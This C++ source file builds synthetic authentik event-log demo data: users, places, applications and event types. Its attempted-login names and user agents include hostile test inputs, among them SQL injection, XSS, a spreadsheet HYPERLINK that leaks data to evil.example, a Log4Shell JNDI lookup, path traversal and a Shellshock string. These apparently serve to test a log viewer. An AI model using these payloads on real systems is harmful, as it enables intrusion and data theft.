// SPDX-License-Identifier: GPL-3.0-or-later
#include "demotables.h"

#include "demoids.h"
#include "demojson.h"
#include "demopeople.h"

#include <algorithm>

using namespace std::string_literals;

namespace tidings::demo {

namespace {

constexpr int groupRounds = 10; // persons per group of names
constexpr std::size_t actionDraws = 4096;

std::vector<ActionInfo> allActions(DemoRelease release)
{
    using R = DemoRelease;
    const std::vector<ActionInfo> all = {
        {"login", "Login", "authentik.events.signals", R::V2024_8, 900},
        {"login_failed", "Login Failed", "authentik.events.signals", R::V2024_8, 300},
        {"logout", "Logout", "authentik.events.signals", R::V2024_8, 420},
        {"user_write", "User Write", "authentik.events.signals", R::V2024_8, 60},
        {"user_offboarded", "User Offboarded", "authentik.enterprise.lifecycle.tasks", R::V2026_8, 5},
        {"suspicious_request", "Suspicious Request", "authentik.events.middleware", R::V2024_8, 25},
        {"password_set", "Password Set", "authentik.events.signals", R::V2024_8, 25},
        {"secret_view", "Secret View", "authentik.core.api.tokens", R::V2024_8, 30},
        {"secret_rotate", "Secret Rotate", "authentik.core.models", R::V2024_8, 12},
        {"invitation_used", "Invite Used", "authentik.events.signals", R::V2024_8, 8},
        {"authorize_application", "Authorize Application", "authentik.providers.oauth2.views.authorize", R::V2024_8,
            900},
        {"source_linked", "Source Linked", "authentik.core.sources.flow_manager", R::V2024_8, 10},
        {"impersonation_started", "Impersonation Started", "authentik.core.api.users", R::V2024_8, 8},
        {"impersonation_ended", "Impersonation Ended", "authentik.core.api.users", R::V2024_8, 8},
        {"flow_execution", "Flow Execution", "authentik.flows.planner", R::V2024_8, 6},
        {"policy_execution", "Policy Execution", "authentik.policies.process", R::V2024_8, 60},
        {"policy_exception", "Policy Exception", "authentik.policies.process", R::V2024_8, 20},
        {"property_mapping_exception", "Property Mapping Exception", "authentik.core.expression.evaluator", R::V2024_8,
            12},
        {"system_task_execution", "System Task Execution", "authentik.tasks.middleware", R::V2024_8, 10},
        {"system_task_exception", "System Task Exception", "authentik.tasks.middleware", R::V2024_8, 14},
        {"system_exception", "System Exception", "authentik.events.middleware", R::V2024_8, 10},
        {"configuration_error", "Configuration Error", "authentik.providers.oauth2.views.token", R::V2024_8, 20},
        {"configuration_warning", "Configuration Warning", "authentik.events.apps", R::V2026_8, 10},
        {"model_created", "Model Created", "authentik.events.middleware", R::V2024_8, 70},
        {"model_updated", "Model Updated", "authentik.events.middleware", R::V2024_8, 220},
        {"model_deleted", "Model Deleted", "authentik.events.middleware", R::V2024_8, 35},
        {"email_sent", "Email Sent", "authentik.stages.email.tasks", R::V2024_8, 60},
        {"update_available", "Update Available", "authentik.admin.tasks", R::V2024_8, 3},
        {"export_ready", "Export Ready", "authentik.enterprise.reports.models", R::V2026_8, 4},
        {"review_initiated", "Review Initiated", "authentik.enterprise.lifecycle.models", R::V2026_8, 4},
        {"review_overdue", "Review Overdue", "authentik.enterprise.lifecycle.models", R::V2026_8, 4},
        {"review_attested", "Review Attested", "authentik.enterprise.lifecycle.models", R::V2026_8, 4},
        {"review_completed", "Review Completed", "authentik.enterprise.lifecycle.models", R::V2026_8, 4},
        {"access_request_created", "Access Request Created", "authentik.enterprise.requests.models", R::V2026_8, 6},
        {"access_request_approved", "Access Request Approved", "authentik.enterprise.requests.models", R::V2026_8, 4},
        {"access_request_denied", "Access Request Denied", "authentik.enterprise.requests.models", R::V2026_8, 2},
        {"access_request_revoked", "Access Request Revoked", "authentik.enterprise.requests.models", R::V2026_8, 2},
        {"custom_", "Custom Prefix", "authentik.policies.expression", R::V2024_8, 2},
        {"custom_vpn_connected", "", "authentik.policies.expression", R::V2024_8, 60},
        {"custom_vpn_disconnected", "", "authentik.policies.expression", R::V2024_8, 40},
        {"custom_badge_swipe", "", "authentik.policies.expression", R::V2024_8, 20},
        {"custom_geofence.alert", "", "authentik.policies.expression", R::V2024_8, 8},
        {"custom_Überwachung 🔔", "", "authentik.policies.expression", R::V2024_8, 4},
        {"custom_" + std::string(120, 'x'), "", "authentik.policies.expression", R::V2024_8, 2},
    };
    // Actions of later releases keep their number and never occur.
    std::vector<ActionInfo> actions = all;
    for (ActionInfo &action : actions) {
        if (action.since > release)
            action.weight = 0;
    }
    return actions;
}

std::vector<std::uint8_t> drawsOf(const std::vector<ActionInfo> &actions)
{
    int total = 0;
    for (const ActionInfo &action : actions)
        total += action.weight;
    std::vector<std::uint8_t> draws;
    draws.reserve(actionDraws + actions.size());
    for (std::size_t id = 0; id < actions.size(); ++id) {
        const int weight = actions[id].weight;
        const int share = weight == 0 ? 0 : std::max(1, weight * static_cast<int>(actionDraws) / total);
        draws.insert(draws.end(), static_cast<std::size_t>(share), static_cast<std::uint8_t>(id));
    }
    return draws;
}

void addUser(
    std::vector<User> &users, int pk, const std::string &username, const std::string &name, const std::string &email)
{
    std::string json = R"({"pk":)" + std::to_string(pk) + R"(,"email":)" + jsonString(email) + R"(,"username":)"
        + jsonString(username);
    if (pk == 2)
        json += R"(,"is_anonymous":true)";
    json += '}';
    users.push_back({pk, username, name, email, json});
}

struct PlaceData
{
    const char *city;
    const char *country;
    const char *continent;
    const char *latitude;
    const char *longitude;
    const char *network;
};

constexpr std::array<PlaceData, 24> placeData{{
    {"Berlin", "DE", "EU", "52.52", "13.405", "Example Net GmbH"},
    {"Zürich", "CH", "EU", "47.3769", "8.5417", "Beispiel AG"},
    {"", "NL", "EU", "52.37", "4.9", "Example Hosting BV"},
    {"Kraków", "PL", "EU", "50.0647", "19.945", "Przykład Sp. z o.o."},
    {"São Paulo", "BR", "SA", "-23.5505", "-46.6333", "Exemplo Telecom"},
    {"東京", "JP", "AS", "35.6762", "139.6503", "Example Broadband KK"},
    {"Łódź", "PL", "EU", "51.7592", "19.456", "Przykład Sp. z o.o."},
    {"Reykjavík", "IS", "EU", "64.1466", "-21.9426", "Dæmi ehf"},
    {"İstanbul", "TR", "AS", "41.0082", "28.9784", "Örnek İletişim"},
    {"Αθήνα", "GR", "EU", "37.9838", "23.7275", "Example Hellas"},
    {"Київ", "UA", "EU", "50.4501", "30.5234", "Приклад"},
    {"القاهرة", "EG", "AF", "30.0444", "31.2357", "Example Nile"},
    {"תל אביב", "IL", "AS", "32.0853", "34.7818", "Example Net IL"},
    {"मुंबई", "IN", "AS", "19.076", "72.8777", "Example Broadband Pvt"},
    {"Hà Nội", "VN", "AS", "21.0278", "105.8342", "Ví dụ Telecom"},
    {"서울", "KR", "AS", "37.5665", "126.978", "Example Korea"},
    {"Nairobi", "KE", "AF", "-1.2921", "36.8219", "Mfano Ltd"},
    {"Wellington", "NZ", "OC", "-41.2866", "174.7756", "Example Kiwi"},
    {"Honolulu", "US", "NA", "21.3069", "-157.8583", "Example Pacific"},
    {"Montréal", "CA", "NA", "45.5019", "-73.5674", "Exemple Inc"},
    {"Göteborg", "SE", "EU", "57.7089", "11.9746", "Exempel AB"},
    {"", "SC", "AF", "-4.68", "55.49", "Bulletproof Example Ltd"},
    {"Lagos", "NG", "AF", "6.5244", "3.3792", "Apẹẹrẹ Net"},
    {"Llanfair­pwllgwyngyll", "GB", "EU", "53.2232", "-4.2008", "Example Cymru"},
}};

constexpr std::array<const char *, 3> networks{"192.0.2.", "198.51.100.", "203.0.113."};

std::string subnetAddress(std::size_t place, int host)
{
    return networks.at(place / 8) + std::to_string(static_cast<int>(place % 8) * 32 + host);
}

std::vector<Place> makePlaces()
{
    std::vector<Place> places;
    for (std::size_t at = 0; at < placeData.size(); ++at) {
        const PlaceData &data = placeData.at(at);
        places.push_back({R"("asn":{"asn":)" + std::to_string(64496 + at % 16) + R"(,"as_org":)"
                + jsonString(data.network) + R"(,"network":")" + subnetAddress(at, 0) + R"(/27"},"geo":{"lat":)"
                + data.latitude + R"(,"city":)" + jsonString(data.city) + R"(,"long":)" + data.longitude
                + R"(,"country":")" + data.country + R"(","continent":")" + data.continent + R"("},)",
            data.country});
    }
    return places;
}

std::string modelJson(
    const std::string &app, const std::string &model, const std::string &name, const std::string &pk, bool numeric)
{
    return R"({"pk":)" + (numeric ? pk : jsonString(pk)) + R"(,"app":)" + jsonString(app) + R"(,"name":)"
        + jsonString(name) + R"(,"model_name":)" + jsonString(model) + "}";
}

struct KindData
{
    const char *app;
    const char *model;
    const char *api;
    bool numeric;
    std::vector<std::string> names;
};

std::vector<KindData> objectKinds()
{
    return {
        {"authentik_core", "group", "core/groups", false,
            {"authentik Admins", "authentik Read-only", "legacy-group", "Бухгалтерия", "エンジニア", "Vertrieb Süd",
                "hr", "contractors 2024", "everyone <all@example.org>", "Équipe réseau", "vpn-users", "board"}},
        {"authentik_flows", "flow", "flows/instances", false,
            {"Welcome to authentik!", "default-invalidation-flow", "Change Password", "Default enrollment",
                "MFA for admins", "Recovery", "Consent (implicit)", "User settings"}},
        {"authentik_policies_expression", "expressionpolicy", "policies/expression", false,
            {"vpn-group-check", "deny-countries", "office-hours", "default-user-settings-authorization", "badge → app",
                "password-reuse"}},
        {"authentik_stages_password", "passwordstage", "stages/password", false,
            {"default-authentication-password", "ldap-password", "strict-password"}},
        {"authentik_brands", "brand", "core/brands", false,
            {"authentik-default", "example.org", "filiale.example.net"}},
        {"authentik_core", "token", "core/tokens", false,
            {"ak-outpost-proxy-api", "ci-deploy", "backup-2026", "goauthentik-ha", "tidings"}},
        {"authentik_events", "notificationrule", "events/rules", false,
            {"default-notify-configuration-error", "default-notify-exception", "default-notify-update",
                "failed-logins"}},
        {"authentik_sources_ldap", "ldapsource", "sources/ldap", false, {"ad.example.org", "Legacy LDAP"}},
        {"authentik_outposts", "outpost", "outposts/instances", false,
            {"authentik Embedded Outpost", "proxy-dmz", "ldap-campus", "radius-wifi"}},
        {"authentik_crypto", "certificatekeypair", "crypto/certificatekeypairs", false,
            {"authentik Self-signed Certificate", "SAML signing 2025", "*.example.org"}},
        {"authentik_rbac", "role", "rbac/roles", false, {"Auditors", "Helpdesk", "Release managers"}},
    };
}

constexpr std::array<std::array<const char *, 2>, 25> applicationData{{
    {"Grafana", "grafana"},
    {"Wiki", "wiki"},
    {"Nextcloud", "nextcloud"},
    {"VPN", "vpn"},
    {"GitLab", "gitlab"},
    {"Forgejo", "forgejo"},
    {"Jenkins", "jenkins"},
    {"Harbor", "harbor"},
    {"Argo CD", "argo-cd"},
    {"Proxmox", "proxmox"},
    {"Paperless", "paperless"},
    {"Home Assistant", "home-assistant"},
    {"Zeiterfassung", "zeiterfassung"},
    {"Matrix", "matrix"},
    {"Mattermost", "mattermost"},
    {"BookStack", "bookstack"},
    {"Zulip", "zulip"},
    {"Rocket 🚀 Launch <beta>", "rocket"},
    {"経費精算", "keihi"},
    {"HR & Payroll", "hr-payroll"},
    {"Vault", "vault"},
    {"MinIO", "minio"},
    {"Roundcube", "roundcube"},
    {"NetBox", "netbox"},
    {"Portainer", "portainer"},
}};

std::vector<std::string> makeUserAgents()
{
    std::vector<std::string> agents;
    for (const char *agent : {
             "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
             "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 "
             "Safari/537.36",
             "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 "
             "Safari/605.1.15",
             "Mozilla/5.0 (iPhone; CPU iPhone OS 19_0 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 Safari/604.1",
             "Mozilla/5.0 (Linux; Android 16; Pixel 9) AppleWebKit/537.36 Chrome/141.0.0.0 Mobile Safari/537.36",
             "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:142.0) Gecko/20100101 Firefox/142.0",
             "Mozilla/5.0 (X11; CrOS x86_64 15917.0.0) AppleWebKit/537.36 Chrome/139.0.0.0 Safari/537.36",
             "Mozilla/5.0 (compatible; Edg/140.0.0.0)",
             "goauthentik.io/outpost/2026.8.3",
             "Go-http-client/1.1",
             "python-requests/2.32.3",
             "curl/8.14.1",
             "okhttp/5.1.0",
             "() { :;}; /bin/true",
         }) {
        agents.push_back(jsonString(agent));
    }
    return agents;
}

std::vector<std::string> makeAttemptedNames()
{
    std::string veryLong;
    for (int round = 0; round < 40; ++round)
        veryLong += "averylongname-";
    return {"root", "admin", "administrator", "test", "guest", "postgres", "oracle", "ubuntu", "pi", "info", "support",
        "akadmin ", "AKADMIN", "admin@example.org", "' OR '1'='1", "<b>admin</b>", "<img src=x onerror=alert(1)>",
        R"(=HYPERLINK("https://evil.example/?leak="&A1,"Click me"))", "+1+1", "@SUM(A1:A9)", "-2+3",
        "admin\u202Etxt.exe", "\u2066admin\u2069", "bell\a\x1b[31mred\x1b[0m", "line\nbreak\ttab",
        "nul\x01"
        "start",
        "zero\u200Bwidth", "аdmin", // the first letter is Cyrillic
        veryLong, "Ｆｕｌｌｗｉｄｔｈ", "👩‍👩‍👧‍👦", "é́́́́́", "%1 %s %n {0}", "../../etc/passwd",
        "${jndi:ldap://192.0.2.66/a}", " ", "null", "None", "\"quoted\"", "back\\slash"};
}

} // namespace

DemoTables::DemoTables(quint64 seed, DemoRelease forRelease)
    : release(forRelease)
    , actions(allActions(forRelease))
    , actionPicks(drawsOf(actions))
    , places(makePlaces())
    , userAgents(makeUserAgents())
    , attemptedNames(makeAttemptedNames())
{
    const quint64 key = seed * 0x2545f4914f6cdd1dULL + 7;

    users.push_back({0, {}, {}, {}, "{}"});
    addUser(users, 2, "AnonymousUser", "", "");
    addUser(users, 5, "akadmin", "authentik Default Admin", "admin@example.org");
    for (int round = 0; round < groupRounds; ++round) {
        for (const NameGroup &group : nameGroups()) {
            const auto number = static_cast<std::size_t>(round);
            const NamePart &given = group.given.at(number % 5);
            const NamePart &family = group.family.at((number * 2 + number / 5) % 5);
            const std::string name = group.familyFirst ? std::string(family.native) + " " + given.native
                                                       : std::string(given.native) + " " + family.native;
            const std::string username = std::string(given.ascii) + "." + family.ascii;
            addUser(users, 10 + personCount, username, name, username + "@example.org");
            ++personCount;
        }
    }
    firstServiceAccount = static_cast<std::uint16_t>(users.size());
    int pk = 10 + personCount;
    for (const char *account :
        {"svc-backup", "svc-monitoring", "svc-ci", "ak-outpost-proxy", "ak-outpost-ldap", "svc-hr-sync"})
        addUser(users, pk++, account, "Service account "s + account, "");

    addresses.push_back({{}, -1});
    addresses.push_back({"255.255.255.255", -1});
    for (std::size_t user = AdminUser; user < users.size(); ++user) {
        const std::size_t place = user < FirstPerson ? 0 : (user - FirstPerson) % places.size();
        const int host = static_cast<int>((user - AdminUser) / places.size()) + 2;
        std::string six = "2001:db8:";
        const std::string digits = hexId(key ^ 6, user);
        six += std::to_string(place + 1) + ":" + std::to_string(user) + "::" + "1" + digits.substr(0, 3);
        addresses.push_back({subnetAddress(place, host), static_cast<int>(place)});
        addresses.push_back({six, static_cast<int>(place)});
        addresses.push_back({"10.20." + std::to_string(user / 200) + "." + std::to_string(user % 200 + 10), -1});
    }
    firstAttacker = static_cast<std::uint16_t>(addresses.size());
    for (std::size_t attacker = 0; attacker < 16; ++attacker) {
        const std::size_t place = (attacker * 5 + 2) % places.size();
        addresses.push_back({subnetAddress(place, 24 + static_cast<int>(attacker % 7)), static_cast<int>(place)});
    }
    attackerCount = static_cast<std::uint16_t>(addresses.size() - firstAttacker);

    for (std::size_t user = FirstPerson; user < users.size(); ++user) {
        const User &who = users[user];
        const std::string number = std::to_string(who.pk);
        objects.push_back({"authentik_core", "user", who.name, number, "core/users/" + number,
            modelJson("authentik_core", "user", who.name, number, true), static_cast<int>(user)});
    }
    quint64 serial = 0;
    for (const KindData &kind : objectKinds()) {
        for (const std::string &name : kind.names) {
            const std::string id = hexId(key ^ 1, serial++);
            objects.push_back({kind.app, kind.model, name, id, std::string(kind.api) + "/" + id,
                modelJson(kind.app, kind.model, name, id, kind.numeric), -1});
        }
    }
    for (std::size_t at = 0; at < applicationData.size(); ++at) {
        const std::string name = applicationData.at(at)[0];
        const std::string slug = applicationData.at(at)[1];
        const std::string id = hexId(key ^ 2, at);
        const std::string json = modelJson("authentik_core", "application", name, id, false);
        applications.push_back({name, slug, id, json});
        objects.push_back({"authentik_core", "application", name, id, "core/applications/" + slug, json, -1});
        const std::string number = std::to_string(at + 1);
        objects.push_back({"authentik_providers_oauth2", "oauth2provider", "Provider for " + name, number,
            "providers/oauth2/" + number,
            modelJson("authentik_providers_oauth2", "oauth2provider", "Provider for " + name, number, true), -1});
    }
    accessRequestObject = static_cast<std::uint16_t>(objects.size());
    const std::string request = hexId(key ^ 5, 0);
    objects.push_back({"authentik_requests", "accessrequest", "Access request", request, "requests/" + request,
        modelJson("authentik_requests", "accessrequest", "Access request", request, false), -1});
    for (int device = 0; device < 30; ++device) {
        const std::string id = hexId(key ^ 3, static_cast<quint64>(device));
        const std::string name = "laptop-" + std::to_string(100 + device);
        devices.push_back({"authentik_endpoints", "device", name, id, {},
            modelJson("authentik_endpoints", "device", name, id, false), -1});
    }
    quint64 brandSerial = 0;
    for (const char *name : {"Default brand", "Brand example.org", "Zweigstelle Österreich"})
        brands.push_back({name, modelJson("authentik_brands", "brand", name, hexId(key ^ 4, brandSerial++), false)});
}

bool DemoTables::knowsAction(std::string_view name) const
{
    return std::any_of(actions.begin(), actions.begin() + KnownActionCount,
        [&](const ActionInfo &action) { return action.name == name && action.since <= release; });
}

int DemoTables::addressOf(int user, int kind) const
{
    return user < AdminUser ? static_cast<int>(NoAddress) : FirstAddress + (user - AdminUser) * 3 + kind;
}

int DemoTables::userByPk(int pk) const
{
    const auto found = std::find_if(users.begin() + 1, users.end(), [pk](const User &user) { return user.pk == pk; });
    return found == users.end() ? -1 : static_cast<int>(found - users.begin());
}

} // namespace tidings::demo
